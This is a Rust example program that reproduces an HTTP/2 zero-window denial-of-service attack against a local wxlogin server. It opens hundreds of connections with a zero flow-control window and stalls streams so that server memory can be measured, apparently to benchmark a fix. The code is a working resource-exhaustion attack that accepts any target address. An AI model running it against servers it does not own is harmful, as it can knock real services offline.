//! The HTTP/2 zero-window attack of issue 27 against a running wxlogin, for measuring what
//! it holds: `connections` HTTP/2 connections that announce a window of 0 and open
//! `streams` GETs of `/openapi.json` each, never read, held until the server closes them.
//! bench/h2_zero_window.sh reads the server's RSS before, during and after.
//!
//!   cargo run --release --example h2_zero_window -- 127.0.0.1:8080 200 64

use std::time::Duration;

use tokio::net::TcpStream;

#[tokio::main]
async fn main() {
    let mut args = std::env::args().skip(1);
    let addr = args.next().unwrap_or_else(|| "127.0.0.1:8080".to_owned());
    let connections: usize = args.next().and_then(|n| n.parse().ok()).unwrap_or(200);
    let streams: usize = args.next().and_then(|n| n.parse().ok()).unwrap_or(64);
    let mut attacks = tokio::task::JoinSet::new();
    for _ in 0..connections {
        let addr = addr.clone();
        attacks.spawn(async move { stall(&addr, streams).await });
    }
    let mut opened = 0;
    let mut stalled_streams = 0;
    while let Some(attack) = attacks.join_next().await {
        if let Ok(Some(held)) = attack {
            opened += 1;
            stalled_streams += held;
        }
    }
    println!("connections {opened} streams_answered {stalled_streams} (all closed by the server)");
}

/// One stalled connection: returns how many of its streams got their headers, once the
/// server has closed it (or `None` if it could not be opened).
async fn stall(addr: &str, streams: usize) -> Option<usize> {
    let tcp = TcpStream::connect(addr).await.ok()?;
    let (client, connection) = h2::client::Builder::new()
        .initial_window_size(0)
        .handshake::<_, axum::body::Bytes>(tcp)
        .await
        .ok()?;
    let connection = tokio::spawn(connection);
    let mut client = client.ready().await.ok()?;
    let mut answers = Vec::new();
    for _ in 0..streams {
        let request = axum::http::Request::get(format!("http://{addr}/openapi.json"))
            .body(())
            .ok()?;
        let Ok((answer, _)) = client.send_request(request, true) else {
            break;
        };
        answers.push(answer);
        client = client.ready().await.ok()?;
    }
    let mut held = Vec::new();
    for answer in answers {
        if let Ok(Ok(answer)) = tokio::time::timeout(Duration::from_secs(30), answer).await {
            held.push(answer);
        }
    }
    let count = held.len();
    let _ = connection.await;
    drop((client, held));
    Some(count)
}
